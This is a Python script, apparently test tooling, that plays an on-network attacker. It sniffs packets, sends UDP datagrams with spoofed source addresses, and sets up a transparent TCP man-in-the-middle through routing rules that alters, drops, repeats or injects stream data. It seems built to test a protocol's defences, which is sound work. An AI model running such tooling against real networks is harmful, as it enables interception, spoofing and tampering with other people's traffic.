"""What can somebody do who is on the network of the hosts, and is none of them?

usage: attacker.py record         prints each datagram that passes here, as a line
       attacker.py send           sends each datagram that a line of its input describes, whatever source that names
       attacker.py look HEXADECIMAL
                                  prints the port to which each packet goes that passes here with these bytes, as a line
       attacker.py between OWN THERE:PORT change|drop|repeat|insert
                                  sits between this host and another one, and passes on what goes over TCP to that port;
                                  after a line of its input it attacks the next large piece that comes from there

A line is FROM:PORT TO:PORT [HEXADECIMAL], with addresses of IPv4. Each line of the input is answered with one, and an
attack with another one.
"""
import os
import select
import socket
import struct
import subprocess
import sys

ETH_P_ALL, ETH_P_IP, UDP, HEADER = 3, 0x800, socket.IPPROTO_UDP, 28
IP_TRANSPARENT = 19     # linux/in.h
PASSED = 1              # the mark of the attacker's own packets
LARGE = 1000            # bytes of the message that is attacked: a piece ends with it


def changed(data):
    """The first byte of the message is another one."""
    return data[:-LARGE] + bytes([data[-LARGE] ^ 4]) + data[1 - LARGE:]


ATTACKS = {"change": changed, "drop": lambda data: b"", "repeat": lambda data: data + data,
           "insert": lambda data: changed(data) + data}


def end_of(text):
    """An address and a port, as bytes."""
    address, _, port = text.partition(":")
    return socket.inet_aton(address), int(port)


def datagram(source, destination, data):
    """With the headers of IP, whose checksum the system fills in, and of UDP, without one."""
    (source, source_port), (destination, destination_port) = source, destination
    return struct.pack(">BBHHHBBH4s4sHHHH", 0x45, 0, HEADER + len(data), 0, 0, 64, UDP, 0, source, destination,
                       source_port, destination_port, 8 + len(data), 0) + data


def send():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for line in sys.stdin:
            source, destination, *data = line.split()
            destination = end_of(destination)
            raw.sendto(datagram(end_of(source), destination, bytes.fromhex("".join(data))),
                       (socket.inet_ntoa(destination[0]), 0))
            print("sent", flush=True)


def packets():
    """Each packet that passes here, the place where its ports are, and the ports."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL)) as tap:
        print("ready", flush=True)
        while True:
            packet, (_, protocol, *_) = tap.recvfrom(1 << 16)
            if protocol == ETH_P_IP:
                start = (packet[0] & 15) * 4
                yield packet, start, struct.unpack(">HH", packet[start:start + 4])


def record():
    for packet, start, ports in packets():
        if packet[9] == UDP:
            ends = (f"{socket.inet_ntoa(packet[at:at + 4])}:{port}" for at, port in zip((12, 16), ports))
            print(*ends, packet[start + 8:].hex(), flush=True)


def look():
    for packet, _, ports in packets():
        if bytes.fromhex(sys.argv[2]) in packet:
            print(ports[1], flush=True)


class Between:
    """Connections of this host, each in two parts."""

    def __init__(self, own, there, what):
        self.own, self.attack, self.armed = own, ATTACKS[what], False
        self.there = there[0], int(there[1])
        # What this host sends there over TCP comes to this process, except what it sends itself.
        for rule in (f"rule add pref 10 fwmark {PASSED} lookup main", f"rule add pref 20 ipproto tcp to {there[0]} "
                     "lookup 100", f"route add local {there[0]} dev lo table 100"):
            subprocess.run(["ip", *rule.split()], check=True)
        with open("/proc/sys/net/ipv4/conf/eth0/accept_local", "w", encoding="ascii") as accepted:
            accepted.write("1")
        self.gate = socket.socket()
        self.gate.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        self.gate.bind(self.there)
        self.gate.listen()
        self.others = {}    # of each connection, the other part of it
        self.far = set()    # parts that lead there

    def let_in(self):
        near, _ = self.gate.accept()
        far = socket.socket()
        far.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, PASSED)
        far.bind((self.own, 0))
        far.connect(self.there)
        self.others |= {near: far, far: near}
        self.far.add(far)

    def pass_on(self, part):
        other = self.others.get(part)
        try:
            data = part.recv(1 << 16) if other else b""
            if data and self.armed and part in self.far and len(data) >= LARGE:
                data, self.armed = self.attack(data), False
                print("done", flush=True)
                other.sendall(data)
            elif data:
                other.sendall(data)
            elif other:
                raise ConnectionError
        except ConnectionError:
            for end in (part, other):
                del self.others[end]
                end.close()

    def run(self):
        print("ready", flush=True)
        while True:
            for ready in select.select([0, self.gate, *self.others], [], [])[0]:
                if ready == 0:
                    if not os.read(0, 100):
                        return
                    self.armed = True
                    print("armed", flush=True)
                elif ready is self.gate:
                    self.let_in()
                else:
                    self.pass_on(ready)


if sys.argv[1] == "between":
    Between(sys.argv[2], sys.argv[3].split(":"), sys.argv[4]).run()
else:
    {"send": send, "record": record, "look": look}[sys.argv[1]]()
